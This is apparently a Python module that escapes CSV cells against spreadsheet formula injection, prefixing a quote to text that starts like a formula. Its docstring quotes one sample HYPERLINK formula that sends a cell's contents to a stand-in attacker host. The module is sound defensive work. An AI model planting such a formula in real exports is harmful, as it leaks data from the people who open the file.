"""Cells of the CSV files the broker writes, safe to open in a spreadsheet.

A spreadsheet runs a cell that starts like a formula (``=``, ``+``, ``-``, ``@``, or a
tab or carriage return before one), so a name an administrator typed, say
``=HYPERLINK("https://evil.example/?d="&A1,"details")``, would run on the desk of
whoever opens the export. As OWASP advises for CSV injection, such a text cell is
written with a leading ``'``, which the spreadsheet shows as text. Only text is
touched: a number (``-3.5`` in a figures column) stays a number. The console's own
export (``web/static/console_ui.js``: ``csv``) follows the same rule.
"""

from __future__ import annotations

# The first characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet shows as text: prefixed with ``'`` when it
    starts like a formula, else unchanged."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def cell(value: object) -> object:
    """A value as a CSV cell: ``None`` empty, text through ``text_cell``, anything else
    (a number) as it is, so a negative figure stays a number."""
    if value is None:
        return ""
    if isinstance(value, str):
        return text_cell(value)
    return value
